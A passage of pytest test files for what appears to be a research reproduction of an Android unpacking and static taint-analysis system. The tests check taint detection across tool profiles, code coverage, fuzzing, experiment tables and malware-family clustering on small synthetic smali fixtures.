        method = dex.find_class("Lc/E;").all_methods()[0]
        cfg = ControlFlowGraph(method.code)
        handler_blocks = [b for b in cfg.blocks.values() if b.is_handler]
        assert len(handler_blocks) == 1
        entry = cfg.entry_block()
        assert handler_blocks[0].start_pc in entry.successors

    def test_call_graph_resolution(self):
        dex = assemble("""
.class public Lcg/A;
.super Ljava/lang/Object;
.method public static top()V
    .registers 1
    invoke-static {}, Lcg/A;->leaf()V
    return-void
.end method
.method public static leaf()V
    .registers 1
    return-void
.end method
""")
        graph = build_call_graph(dex)
        assert ("Lcg/A;->top()V", "Lcg/A;->leaf()V") in graph.edges
        assert graph.successors("Lcg/A;->top()V") == ["Lcg/A;->leaf()V"]

    def test_edges_preserved_identity(self):
        apk = build_simple_apk("cg.same")
        graph = build_call_graph(apk.primary_dex)
        assert edges_preserved(graph, graph) == 1.0
