"""Static taint engine and tool-profile differentiation tests."""


from repro.analysis import (
    DROIDSAFE_LIKE,
    FLOWDROID_LIKE,
    HORNDROID_LIKE,
    StaticTool,
    all_tools,
    flowdroid,
    horndroid,
)
from repro.dex import assemble
from repro.runtime import Apk

from repro.benchsuite import sample_by_name


def _analyze_all(apk):
    return {t.name: t.analyze(apk).detected for t in all_tools()}


class TestBasicDetection:
    def test_direct_flow_found_by_all(self):
        apk = sample_by_name("Direct0").build_apk()
        assert all(_analyze_all(apk).values())

    def test_benign_app_clean_for_all(self):
        apk = sample_by_name("Benign0").build_apk()
        assert not any(_analyze_all(apk).values())

    def test_flow_reported_with_tag_and_sink(self):
        apk = sample_by_name("Direct0").build_apk()
        flows = flowdroid().analyze(apk).flows
        assert flows[0].source_tag == "imei"
        assert "Log" in flows[0].sink_signature


class TestToolDifferentiation:
    def test_icc_splits_flowdroid_from_the_rest(self):
        apk = sample_by_name("IccExtra0").build_apk()
        results = _analyze_all(apk)
        assert not results["FlowDroid"]  # no ICC model
        assert results["DroidSafe"]
        assert results["HornDroid"]

    def test_implicit_flows_only_horndroid(self):
        apk = sample_by_name("ImplicitFlow1").build_apk()
        results = _analyze_all(apk)
        assert not results["FlowDroid"]
        assert not results["DroidSafe"]
        assert results["HornDroid"]

    def test_flow_order_trap_only_order_blind_tools(self):
        apk = sample_by_name("FieldFlowOrder0").build_apk()
        results = _analyze_all(apk)
        assert not results["FlowDroid"]  # flow-sensitive: no FP
        assert results["DroidSafe"]  # flow-insensitive: FP

    def test_sanitized_trap(self):
        apk = sample_by_name("Sanitized0").build_apk()
        results = _analyze_all(apk)
        assert not results["FlowDroid"]
        assert results["DroidSafe"]
        assert not results["HornDroid"]

    def test_array_index_trap_spares_horndroid(self):
        apk = sample_by_name("ArrayIndex0").build_apk()
        results = _analyze_all(apk)
        assert results["FlowDroid"]  # index-blind FP
        assert results["DroidSafe"]
        assert not results["HornDroid"]  # value-sensitive arrays

    def test_container_trap_fools_everyone(self):
        apk = sample_by_name("Container0").build_apk()
        assert all(_analyze_all(apk).values())

    def test_constant_reflection_resolved_by_all(self):
        apk = sample_by_name("ReflectConst0").build_apk()
        assert all(_analyze_all(apk).values())

    def test_advanced_reflection_defeats_all(self):
        for name in ("ReflectAdv0", "ReflectAdv1", "ReflectAdv2"):
            apk = sample_by_name(name).build_apk()
            assert not any(_analyze_all(apk).values()), name

    def test_selfmod_invisible_statically(self):
        apk = sample_by_name("SelfMod1").build_apk()
        assert not any(_analyze_all(apk).values())

    def test_dynload_invisible_statically(self):
        apk = sample_by_name("DynLoad0").build_apk()
        assert not any(_analyze_all(apk).values())

    def test_dead_code_fp_for_all(self):
        apk = sample_by_name("DeadCode0").build_apk()
        assert all(_analyze_all(apk).values())


class TestEngineMechanics:
    def _apk(self, body: str, extra: str = "") -> Apk:
        text = f"""
.class public La/T;
.super Landroid/app/Activity;
{extra}
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
{body}
    return-void
.end method

.method public src()Ljava/lang/String;
    .registers 3
    new-instance v0, Landroid/telephony/TelephonyManager;
    invoke-direct {{v0}}, Landroid/telephony/TelephonyManager;-><init>()V
    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method public snk(Ljava/lang/String;)V
    .registers 3
    const-string v0, "t"
    invoke-static {{v0, p1}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method
"""
        return Apk("a.t", "La/T;", [assemble(text)])

    def test_taint_through_return_value(self):
        apk = self._apk("""
    invoke-virtual {p0}, La/T;->src()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {p0, v0}, La/T;->snk(Ljava/lang/String;)V
""")
        assert flowdroid().analyze(apk).detected

    def test_taint_killed_by_overwrite(self):
        apk = self._apk("""
    invoke-virtual {p0}, La/T;->src()Ljava/lang/String;
    move-result-object v0
    const-string v0, "clean"
    invoke-virtual {p0, v0}, La/T;->snk(Ljava/lang/String;)V
""")
        assert not flowdroid().analyze(apk).detected

    def test_join_at_merge_point(self):
        apk = self._apk("""
    invoke-virtual {p0}, La/T;->src()Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0
    if-eqz v1, :other
    const-string v2, "clean"
    goto :merge
    :other
    move-object v2, v0
    :merge
    invoke-virtual {p0, v2}, La/T;->snk(Ljava/lang/String;)V
""")
        assert flowdroid().analyze(apk).detected  # joined state is tainted

    def test_static_field_channel(self):
        apk = self._apk("""
    invoke-virtual {p0}, La/T;->src()Ljava/lang/String;
    move-result-object v0
    sput-object v0, La/T;->box:Ljava/lang/String;
    sget-object v1, La/T;->box:Ljava/lang/String;
    invoke-virtual {p0, v1}, La/T;->snk(Ljava/lang/String;)V
""", extra=".field public static box:Ljava/lang/String;")
        assert flowdroid().analyze(apk).detected

    def test_string_builder_wrapper(self):
        apk = self._apk("""
    invoke-virtual {p0}, La/T;->src()Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {p0, v2}, La/T;->snk(Ljava/lang/String;)V
""")
        assert flowdroid().analyze(apk).detected

    def test_flows_are_deterministic(self):
        apk = sample_by_name("Direct1").build_apk()
        first = [f.brief() for f in horndroid().analyze(apk).flows]
        second = [f.brief() for f in horndroid().analyze(apk).flows]
        assert first == second


class TestConfigSurface:
    def test_profiles_differ_where_documented(self):
        assert FLOWDROID_LIKE.flow_sensitive and not FLOWDROID_LIKE.model_icc
        assert not DROIDSAFE_LIKE.flow_sensitive and DROIDSAFE_LIKE.model_icc
        assert HORNDROID_LIKE.implicit_flows and HORNDROID_LIKE.precise_arrays

    def test_custom_profile_runs(self):
        from repro.analysis import AnalysisConfig

        tool = StaticTool(AnalysisConfig(name="custom", implicit_flows=True))
        apk = sample_by_name("Direct0").build_apk()
        assert tool.analyze(apk).detected
