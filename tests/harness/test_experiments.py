"""Experiment harness tests (scaled-down runs of each table/figure)."""


from repro.benchsuite import sample_by_name
from repro.harness import (
    render_table,
    run_fig5,
    run_table2,
    run_table3,
    run_table4,
    run_table5,
)
from repro.harness.experiments import ALL_EXPERIMENTS


def _subset(names):
    return [sample_by_name(n) for n in names]


class TestTables:
    def test_render_table_alignment(self):
        text = render_table("T", ["a", "bb"], [["1", "222"], ["33", "4"]])
        lines = text.splitlines()
        assert lines[0] == "T"
        assert "a" in lines[2] and "bb" in lines[2]

    def test_registry_complete(self):
        assert set(ALL_EXPERIMENTS) == {
            "table1", "table2", "table3", "fig5", "table4",
            "table5", "table6", "table7", "fig6", "table8",
        }


class TestTable2Subset:
    def test_dexlego_beats_original_on_hidden_samples(self):
        samples = _subset([
            "Direct0", "SelfMod0", "DynLoad0", "ReflectAdv0",
            "UnreachableFlow0", "Benign0",
        ])
        result = run_table2(samples)
        for tool in ("FlowDroid", "DroidSafe", "HornDroid"):
            orig = result.extras["original"][tool]
            dexlego = result.extras["dexlego"][tool]
            assert dexlego.tp > orig.tp
            assert dexlego.fp <= orig.fp
        assert result.rows

    def test_table3_dexhunter_fails_selfmod(self):
        samples = _subset(["Direct0", "SelfMod0", "Benign0"])
        result = run_table3(samples)
        for tool in ("FlowDroid", "HornDroid"):
            assert result.extras["dexhunter"][tool].tp == 1  # Direct0 only
            assert result.extras["dexlego"][tool].tp == 2  # + SelfMod0

    def test_fig5_gains_positive(self):
        samples = _subset([
            "Direct0", "Direct1", "SelfMod0", "DynLoad0",
            "UnreachableFlow0", "Benign0", "Benign1",
        ])
        t2 = run_table2(samples)
        t3 = run_table3(samples)
        fig = run_fig5(t2, t3)
        assert all(gain > 0 for gain in fig.extras["gains"].values())


class TestTable4:
    def test_matches_paper_rows_exactly(self):
        result = run_table4()
        by_sample = {row[0]: row for row in result.rows}
        # (leak#, TD, TA, DexLego+HD) per the paper's Table IV.
        assert by_sample["Button1"][1:] == [1, 0, 0, 1]
        assert by_sample["Button3"][1:] == [2, 0, 0, 2]
        assert by_sample["EmulatorDetection1"][1:] == [1, 0, 1, 1]
        assert by_sample["ImplicitFlow1"][1:] == [2, 0, 0, 2]
        assert by_sample["PrivateDataLeak3"][1:] == [2, 1, 1, 1]


class TestTable5:
    def test_packed_hidden_revealed_found(self):
        result = run_table5(limit=2)
        for row in result.rows:
            package, _version, _set, _installs, original, revealed = row
            assert original == 0, f"{package} leaked while packed"
            assert revealed > 0, f"{package} not revealed"
