"""Coverage collector, fuzzer and CF-Bench tests."""


from repro.benchsuite import AppProfile, generate_app
from repro.coverage import (
    CoverageCollector,
    SapienzFuzzer,
    measure_launch_time,
    run_cfbench,
)
from repro.runtime import AndroidRuntime, AppDriver

from tests.conftest import build_simple_apk


class TestCoverageCollector:
    def test_full_coverage_on_straightline_app(self):
        apk = build_simple_apk("cov.full")
        collector = CoverageCollector()
        runtime = AndroidRuntime()
        runtime.add_listener(collector)
        AppDriver(runtime, apk).launch()
        report = collector.report(apk.dex_files)
        assert report.classes == 1.0
        assert report.methods == 1.0
        assert report.instructions == 1.0
        assert report.branches == 1.0  # loop branch sees both outcomes

    def test_zero_coverage_without_execution(self):
        apk = build_simple_apk("cov.zero")
        report = CoverageCollector().report(apk.dex_files)
        assert report.instructions == 0.0
        assert report.classes == 0.0

    def test_partial_branch_coverage(self):
        from repro.dex import assemble
        from repro.runtime import Apk

        text = """
.class public Lcv/P;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const/4 v0, 1
    if-eqz v0, :dead
    return-void
    :dead
    const/4 v1, 2
    return-void
.end method
"""
        apk = Apk("cv.p", "Lcv/P;", [assemble(text)])
        collector = CoverageCollector()
        runtime = AndroidRuntime()
        runtime.add_listener(collector)
        AppDriver(runtime, apk).launch()
        report = collector.report(apk.dex_files)
        assert report.branches == 0.5  # one outcome of one branch
        assert report.instructions < 1.0

    def test_accumulates_across_runs(self):
        apk = build_simple_apk("cov.acc")
        collector = CoverageCollector()
        for _ in range(2):
            runtime = AndroidRuntime()
            runtime.add_listener(collector)
            AppDriver(runtime, apk).launch()
        assert collector.report(apk.dex_files).instructions == 1.0

    def test_as_row_formats_percentages(self):
        apk = build_simple_apk("cov.row")
        row = CoverageCollector().report(apk.dex_files).as_row()
        assert row["Instruction"] == "0%"


class TestSapienz:
    def test_population_is_deterministic(self):
        a = SapienzFuzzer(seed=9).generate_population()
        b = SapienzFuzzer(seed=9).generate_population()
        assert [(s.extra, s.events) for s in a] == [(s.extra, s.events) for s in b]

    def test_fuzzing_misses_gated_code(self):
        app = generate_app("cov.fz", 2500, seed=10,
                           profile=AppProfile(gated=0.55))
        collector = CoverageCollector()
        report = SapienzFuzzer(population=6).drive(app.apk, [collector])
        assert report.sequences_run == 6
        coverage = collector.report(app.apk.dex_files)
        assert 0.15 < coverage.instructions < 0.7

    def test_force_execution_closes_the_gap(self):
        from repro.core import ForceExecutionEngine

        app = generate_app("cov.fe", 2500, seed=11,
                           profile=AppProfile(gated=0.55))
        collector = CoverageCollector()
        SapienzFuzzer(population=6).drive(app.apk, [collector])
        before = collector.report(app.apk.dex_files).instructions
        ForceExecutionEngine(
            app.apk, shared_listeners=[collector],
            max_iterations=5, max_paths_per_iteration=120,
        ).run()
        after = collector.report(app.apk.dex_files).instructions
        assert after > before + 0.25


class TestCfBench:
    def test_instrumentation_slows_java_more_than_native(self):
        from repro.core import DexLegoCollector

        baseline = run_cfbench(runs=2, java_iterations=1500,
                               native_iterations=30_000)
        instrumented = run_cfbench(listeners=[DexLegoCollector()], runs=2,
                                   java_iterations=1500,
                                   native_iterations=30_000)
        java_overhead = baseline.java_score / instrumented.java_score
        native_overhead = baseline.native_score / instrumented.native_score
        assert java_overhead > 1.3
        assert java_overhead > native_overhead

    def test_launch_time_measurement(self):
        from repro.core import DexLegoCollector

        apk = build_simple_apk("cov.launch")
        base = measure_launch_time(apk, None, launches=5)
        inst = measure_launch_time(apk, lambda: [DexLegoCollector()], launches=5)
        assert base.mean_ms > 0
        assert inst.mean_ms > base.mean_ms * 0.8  # sanity: comparable scale
