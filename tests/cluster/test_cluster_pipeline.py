"""Cluster labeling inside the batch pipeline: outcomes, events, report.

The determinism acceptance bar rides here too: family assignments over
the same corpus must be byte-identical regardless of how many workers
revealed it or in which order the apps arrived.
"""

import pytest

from repro.benchsuite.shared_corpus import build_shared_corpus
from repro.cluster.store import ClusterStore
from repro.service import (
    EVENT_CLUSTER,
    BatchRevealService,
    RevealJob,
    RevealServer,
)

_CORPUS_KW = dict(methods_per_class=2)


def _jobs(apps):
    return [RevealJob(app.package, app.apk) for app in apps]


class TestClusterStatsSurfaces:
    def test_no_cluster_dir_no_stats(self):
        apps = build_shared_corpus(1, **_CORPUS_KW)
        report = BatchRevealService(workers=1).reveal_batch(_jobs(apps))
        assert report.cluster_summary() == {}
        assert "cluster:" not in report.render()

    def test_outcomes_carry_cluster_stats(self, tmp_path):
        apps = build_shared_corpus(3, **_CORPUS_KW)
        service = BatchRevealService(
            cluster_dir=str(tmp_path / "fam"), workers=1)
        report = service.reveal_batch(_jobs(apps))
        assert report.ok_count == 3
        for outcome in report.outcomes:
            assert outcome.cluster_stats, outcome.app_id
            assert outcome.cluster_stats["methods_total"] > 0
            assert outcome.to_summary()["cluster_stats"] == \
                outcome.cluster_stats
        # Apps 2..3 share libraries with app 1, which the store absorbed
        # first — their methods are *known* by the time they arrive.
        later = report.outcomes[1:]
        assert any(o.cluster_stats["methods_known"] > 0 for o in later)
        summary = report.cluster_summary()
        assert summary["apps_labeled"] == 3
        assert summary["labels_assigned"] > 0
        assert "cluster:" in report.render()

    def test_server_publishes_cluster_events(self, tmp_path):
        apps = build_shared_corpus(2, **_CORPUS_KW)
        service = BatchRevealService(
            cluster_dir=str(tmp_path / "fam"), workers=1)
        with RevealServer(service=service) as server:
            handles = server.submit_all(_jobs(apps))
            outcomes = server.await_many(handles)

        for handle, outcome in zip(handles, outcomes):
            events = [e for e in server.bus.events_for(handle.job_id)
                      if e.kind == EVENT_CLUSTER]
            assert len(events) == 1
            assert events[0].payload == outcome.cluster_stats
            assert {"family", "methods_total",
                    "labels_assigned"} <= events[0].payload.keys()

    def test_store_persists_across_service_instances(self, tmp_path):
        cluster_dir = str(tmp_path / "fam")
        first = build_shared_corpus(2, **_CORPUS_KW)
        BatchRevealService(cluster_dir=cluster_dir, workers=1) \
            .reveal_batch(_jobs(first))

        store = ClusterStore(cluster_dir, create=False)
        stats = store.stats()
        store.close()
        assert stats["apps"] == 2
        assert stats["members"] > 0


class TestWorkerCountDeterminism:
    @pytest.mark.parametrize("backend,workers", [
        ("serial", 1),
        ("thread", 4),
        ("process", 2),
    ])
    def test_families_byte_identical_across_worker_counts(
            self, tmp_path, backend, workers):
        # Same corpus, different parallelism → the family snapshot must
        # not move a byte.  The serial single-worker run is the anchor
        # every other (backend, workers) combination is compared to.
        apps = build_shared_corpus(4, **_CORPUS_KW)
        anchor_dir = str(tmp_path / "anchor")
        BatchRevealService(cluster_dir=anchor_dir, workers=1,
                           backend="serial").reveal_batch(_jobs(apps))
        anchor_store = ClusterStore(anchor_dir, create=False)
        anchor = anchor_store.build_families().to_json()
        anchor_store.close()

        probe_dir = str(tmp_path / f"{backend}-{workers}")
        BatchRevealService(cluster_dir=probe_dir, workers=workers,
                           backend=backend).reveal_batch(
                               _jobs(list(reversed(apps))))
        probe_store = ClusterStore(probe_dir, create=False)
        probe = probe_store.build_families().to_json()
        probe_store.close()
        assert probe == anchor
