"""Auto-labeling: known-method votes, near-miss variants, evidence."""

from repro.cluster.labels import NEAR_MISS_MAX_DISTANCE, AutoLabeler
from repro.cluster.store import ClusterMember, ClusterStore
from repro.core import CollectStage, RevealConfig
from repro.core.body_cache import method_fuzzy_bytes
from repro.dex import assemble
from repro.index.digests import method_digests
from repro.index.fuzzy import fuzzy_digest
from repro.runtime import Apk

_SMALI = """
.class public {cls}
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    const/16 v1, 9
    :loop
    if-ge v0, v1, :done
    mul-int v2, v0, v0
    add-int/lit8 v0, v0, 1
    goto :loop
    :done
    return-void
.end method
"""


def _records(package, main_cls):
    apk = Apk(package, main_cls, [assemble(_SMALI.format(cls=main_cls))])
    return CollectStage(RevealConfig()).run(apk) \
        .archive.method_store().executed_records()


def _kin_store(tmp_path):
    """A store holding the same method under two kin apps, clustered."""
    store = ClusterStore(str(tmp_path / "store"))
    store.register_records("kin.a", _records("kin.a", "Lk/A;"))
    store.register_records("kin.b", _records("kin.b", "Lk/B;"))
    store.build_families(threshold=0.9)
    return store


class TestKnownMatches:
    def test_shared_structure_labels_the_family(self, tmp_path):
        store = _kin_store(tmp_path)
        fresh = _records("fresh.app", "Lf/App;")
        verdict = AutoLabeler(store).label_records(fresh, "fresh.app")
        store.close()

        assert verdict["methods_total"] == len(fresh)
        assert verdict["methods_known"] >= 1
        assert verdict["labels_assigned"] >= 1
        assert verdict["family"] == store.family_of("kin.a")
        assert verdict["family_score"] == 1.0
        known = [row for row in verdict["nearest"]
                 if row["kind"] == "known"]
        assert known and known[0]["distance"] == 0
        assert known[0]["app_id"] in ("kin.a", "kin.b")

    def test_own_app_never_votes_for_itself(self, tmp_path):
        store = ClusterStore(str(tmp_path / "store"))
        records = _records("self.app", "Ls/App;")
        store.register_records("self.app", records)
        store.build_families()
        verdict = AutoLabeler(store).label_records(records, "self.app")
        store.close()
        assert verdict["methods_known"] == 0
        assert verdict["family"] == ""
        assert verdict["nearest"] == []

    def test_index_provenance_is_preferred(self, tmp_path):
        store = _kin_store(tmp_path)

        class _FakeIndex:
            def apps_with_norm(self, norm):
                return ["kin.b"]  # the index, not the store, answers

        verdict = AutoLabeler(store, index=_FakeIndex()) \
            .label_records(_records("fresh.app", "Lf/App;"), "fresh.app")
        store.close()
        known = [row for row in verdict["nearest"]
                 if row["kind"] == "known"]
        assert known and all(row["app_id"] == "kin.b" for row in known)


class TestNearMisses:
    def test_close_variant_counts_as_near_miss(self, tmp_path):
        records = _records("fresh.app", "Lf/App;")
        target = records[0]
        # A synthetic variant of the target: the same token stream with
        # a few bytes flipped — a different norm, but fuzzy-close.  The
        # store holds *only* that variant (plus a family snapshot), so
        # the fuzzy path must be what answers.
        blob = bytearray(method_fuzzy_bytes(target))
        for k in range(4):
            blob[(k * 17 + 3) % len(blob)] ^= 0x5A
        near_fuzzy = fuzzy_digest(bytes(blob))
        assert near_fuzzy is not None
        store = ClusterStore(str(tmp_path / "store"))
        store.add_member(ClusterMember(
            kind="method", app_id="kin.a", class_desc="Lk/A;",
            method="Lk/A;->variant()V", norm="variant-norm",
            fuzzy=near_fuzzy))
        store.build_families()

        labeler = AutoLabeler(store)
        # Hide the known-match path so the fuzzy path must answer.
        labeler._apps_with_norm = lambda norm: []
        verdict = labeler.label_records([target], "fresh.app")
        store.close()

        assert verdict["methods_known"] == 0
        assert verdict["methods_near_miss"] == 1
        row = verdict["nearest"][0]
        assert row["kind"] == "near_miss"
        assert 0 < row["distance"] <= NEAR_MISS_MAX_DISTANCE
        assert row["match"] == "Lk/A;->variant()V"
        assert verdict["family"] == store.family_of("kin.a")
        assert verdict["family_score"] == 1.0

    def test_distant_members_never_label(self, tmp_path):
        store = ClusterStore(str(tmp_path / "store"))
        store.register_records("other.app", _records("other.app", "Lo/App;"))
        # A structurally unrelated method body.
        far_apk = Apk("far.app", "Lz/Far;", [assemble("""
.class public Lz/Far;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/16 v0, 41
    const/16 v1, 13
    xor-int v2, v0, v1
    or-int v3, v0, v1
    and-int v4, v2, v3
    rem-int v4, v4, v1
    shl-int v2, v4, v1
    shr-int v3, v2, v0
    sub-int v4, v3, v2
    return-void
.end method
""")])
        far = CollectStage(RevealConfig()).run(far_apk) \
            .archive.method_store().executed_records()
        labeler = AutoLabeler(store, near_distance=1)
        labeler._apps_with_norm = lambda norm: []
        verdict = labeler.label_records(far, "far.app")
        store.close()
        assert verdict["labels_assigned"] == 0
        assert verdict["family"] == ""

    def test_evidence_limit_is_honoured(self, tmp_path):
        store = _kin_store(tmp_path)
        fresh = _records("fresh.app", "Lf/App;")
        verdict = AutoLabeler(store, evidence_limit=1) \
            .label_records(fresh, "fresh.app")
        store.close()
        assert len(verdict["nearest"]) <= 1

    def test_verdict_is_plain_json(self, tmp_path):
        import json

        store = _kin_store(tmp_path)
        verdict = AutoLabeler(store).label_records(
            _records("fresh.app", "Lf/App;"), "fresh.app")
        store.close()
        assert json.loads(json.dumps(verdict)) == verdict
