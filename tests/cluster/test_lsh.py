"""Banded LSH over fuzzy digests: recall and speedup vs the oracle.

The acceptance bar from the clustering work: on a >=1k-method corpus,
``LshIndex.nearest`` must be >=10x faster than the exhaustive linear
scan while keeping recall >=0.95 against it.  The corpus generator
below produces *independent* families — sha256 counter-mode blobs, not
an LCG (different LCG seeds share one orbit, which correlates
"unrelated" digests and floods the buckets) — with single-byte-tweak
variants inside each family, the regime banded LSH is built for.
"""

import hashlib
import time

import pytest

from repro.cluster.lsh import DEFAULT_BANDS, LshIndex
from repro.index.fuzzy import fuzzy_digest


def _blob(seed: int, size: int = 400) -> bytes:
    """Independent pseudo-random bytes per seed (sha256 counter mode)."""
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return out[:size]


def _variant(base: bytes, var: int) -> bytes:
    """One family member: the base with a single byte flipped."""
    body = bytearray(base)
    body[(var * 31 + 7) % len(body)] ^= 0x5A
    return bytes(body)


def _family_corpus(families: int, variants: int) -> list[str]:
    digests = []
    for fam in range(families):
        base = _blob(fam)
        for var in range(variants):
            digest = fuzzy_digest(_variant(base, var))
            assert digest is not None
            digests.append(digest)
    return digests


class TestLshIndex:
    def test_rejects_malformed_digests(self):
        lsh = LshIndex()
        with pytest.raises(ValueError):
            lsh.add("abc", ref=0)
        with pytest.raises(ValueError):
            lsh.nearest("abc")

    def test_rejects_bands_not_dividing_body(self):
        with pytest.raises(ValueError):
            LshIndex(bands=7)
        with pytest.raises(ValueError):
            LshIndex(bands=0)

    def test_self_is_its_own_nearest(self):
        lsh = LshIndex()
        digests = _family_corpus(families=10, variants=1)
        for i, digest in enumerate(digests):
            lsh.add(digest, ref=i, sort_key=(i,))
        for i, digest in enumerate(digests):
            results = lsh.nearest(digest, limit=1)
            assert results == [(0, i)]

    def test_zero_limit_returns_nothing(self):
        lsh = LshIndex()
        digest = fuzzy_digest(_blob(1))
        lsh.add(digest, ref=0)
        assert lsh.nearest(digest, limit=0) == []

    def test_sparse_corpus_matches_the_oracle(self):
        # Fewer banded candidates than the limit: the scan must widen
        # to the whole corpus and return exactly what the oracle does.
        lsh = LshIndex()
        digests = _family_corpus(families=8, variants=1)
        for i, digest in enumerate(digests):
            lsh.add(digest, ref=i, sort_key=(i,))
        probe = fuzzy_digest(_blob(999))
        assert lsh.nearest(probe, limit=5) == \
            lsh.nearest(probe, limit=5, exhaustive=True)

    def test_accept_filters_before_the_fallback(self):
        lsh = LshIndex()
        digests = _family_corpus(families=6, variants=1)
        for i, digest in enumerate(digests):
            lsh.add(digest, ref=i, sort_key=(i,))
        even = lsh.nearest(digests[0], limit=6,
                           accept=lambda ref: ref % 2 == 0)
        assert [ref for _, ref in even] and \
            all(ref % 2 == 0 for _, ref in even)

    def test_stats_shape(self):
        lsh = LshIndex()
        for i, digest in enumerate(_family_corpus(families=4, variants=2)):
            lsh.add(digest, ref=i)
        stats = lsh.stats()
        assert stats["items"] == 8
        assert stats["bands"] == DEFAULT_BANDS
        assert stats["bands"] * stats["band_width"] == 64
        assert stats["largest_bucket"] >= 2  # family variants collide


class TestRecallAndSpeedup:
    """The headline acceptance criterion, asserted on 1000 methods."""

    FAMILIES = 100
    VARIANTS = 10
    QUERIES = 50
    LIMIT = 5

    @pytest.fixture(scope="class")
    def corpus(self):
        digests = _family_corpus(self.FAMILIES, self.VARIANTS)
        assert len(digests) >= 1000
        lsh = LshIndex()
        for i, digest in enumerate(digests):
            lsh.add(digest, ref=i, sort_key=(i,))
        # Queries are *fresh* variants — near a family, not in the index.
        queries = [fuzzy_digest(_variant(_blob(fam), 97))
                   for fam in range(0, self.FAMILIES,
                                    self.FAMILIES // self.QUERIES)]
        return lsh, queries

    def test_banding_prunes_the_corpus(self, corpus):
        lsh, queries = corpus
        sizes = [len(lsh.candidates(query)) for query in queries]
        # Candidates hover around the family size — far below the
        # corpus — and above the query limit, so the sparse fallback
        # (which would degrade to a full scan) stays out of the way.
        assert max(sizes) < len(lsh) // 10
        assert min(sizes) >= self.LIMIT

    def test_recall_at_least_095(self, corpus):
        lsh, queries = corpus
        hits = total = 0
        for query in queries:
            exact = {ref for _, ref in
                     lsh.nearest(query, limit=self.LIMIT, exhaustive=True)}
            fast = {ref for _, ref in lsh.nearest(query, limit=self.LIMIT)}
            hits += len(exact & fast)
            total += len(exact)
        assert total == self.QUERIES * self.LIMIT
        assert hits / total >= 0.95

    def test_at_least_10x_faster_than_linear(self, corpus):
        lsh, queries = corpus
        start = time.perf_counter()
        for query in queries:
            lsh.nearest(query, limit=self.LIMIT, exhaustive=True)
        linear = time.perf_counter() - start
        start = time.perf_counter()
        for query in queries:
            lsh.nearest(query, limit=self.LIMIT)
        banded = time.perf_counter() - start
        # Measured headroom is ~100x; 10x keeps the assertion robust
        # on loaded CI machines.
        assert banded * 10 <= linear, \
            f"LSH {banded:.4f}s vs linear {linear:.4f}s"
