"""Profiles, weighted similarity and deterministic family clustering."""

import random

from repro.cluster.families import (
    DEFAULT_FAMILY_THRESHOLD,
    FamilyAssignment,
    cluster_families,
    family_id,
)
from repro.cluster.profiles import (
    AppProfile,
    build_profiles,
    digest_weights,
    profile_similarity,
)


class _Entry:
    """Shape-compatible with IndexEntry / ClusterMember for profiles."""

    def __init__(self, app_id, norm, kind="method"):
        self.app_id = app_id
        self.norm = norm
        self.kind = kind


def _profile(app_id, *digests):
    return AppProfile(app_id=app_id, digests=frozenset(digests))


class TestProfiles:
    def test_build_profiles_groups_by_app(self):
        entries = [_Entry("a", "d1"), _Entry("a", "d2"), _Entry("b", "d1")]
        profiles = build_profiles(entries)
        assert profiles["a"].digests == {"d1", "d2"}
        assert profiles["b"].digests == {"d1"}

    def test_build_profiles_skips_classes_and_empty_norms(self):
        entries = [_Entry("a", "d1"), _Entry("a", "dX", kind="class"),
                   _Entry("a", None)]
        assert build_profiles(entries)["a"].digests == {"d1"}

    def test_similarity_plain_jaccard(self):
        a, b = _profile("a", "x", "y"), _profile("b", "y", "z")
        assert profile_similarity(a, b) == 1 / 3
        assert profile_similarity(a, a) == 1.0
        assert profile_similarity(a, _profile("c")) == 0.0

    def test_similarity_is_symmetric(self):
        a, b = _profile("a", "x", "y", "z"), _profile("b", "y")
        assert profile_similarity(a, b) == profile_similarity(b, a)

    def test_library_stub_barely_counts(self):
        # "stub" is in every app; "rare" only in a and b.  IDF weighting
        # must make the a-b pair much more similar than the a-c pair.
        profiles = {
            "a": _profile("a", "stub", "rare"),
            "b": _profile("b", "stub", "rare"),
            "c": _profile("c", "stub", "own1", "own2"),
        }
        weights = digest_weights(profiles)
        assert weights["stub"] == 1 / 3
        assert weights["rare"] == 1 / 2
        kin = profile_similarity(profiles["a"], profiles["b"], weights)
        stub_only = profile_similarity(profiles["a"], profiles["c"], weights)
        assert kin == 1.0
        assert stub_only < 0.25


class TestFamilyId:
    def test_content_addressed_and_order_free(self):
        assert family_id(["b", "a"]) == family_id(["a", "b"])
        assert family_id(["a", "b"]) != family_id(["a", "b", "c"])
        assert family_id(["a"]).startswith("fam-")


class TestClusterFamilies:
    def _profiles(self):
        # Two families {a1, a2} and {b1, b2} plus a loner, all sharing
        # one ubiquitous stub digest.
        return {
            "a1": _profile("a1", "stub", "fam-a-1", "fam-a-2"),
            "a2": _profile("a2", "stub", "fam-a-1", "fam-a-2"),
            "b1": _profile("b1", "stub", "fam-b-1", "fam-b-2"),
            "b2": _profile("b2", "stub", "fam-b-1", "fam-b-2"),
            "lone": _profile("lone", "stub", "own"),
        }

    def test_partitions_and_singletons(self):
        assignment = cluster_families(self._profiles())
        groups = {tuple(f["apps"]) for f in assignment.families}
        assert ("a1", "a2") in groups
        assert ("b1", "b2") in groups
        assert ("lone",) in groups
        assert assignment.family_of("a1") == assignment.family_of("a2")
        assert assignment.family_of("a1") != assignment.family_of("b1")
        assert assignment.family_of("nobody") == ""

    def test_threshold_one_requires_identical_profiles(self):
        profiles = self._profiles()
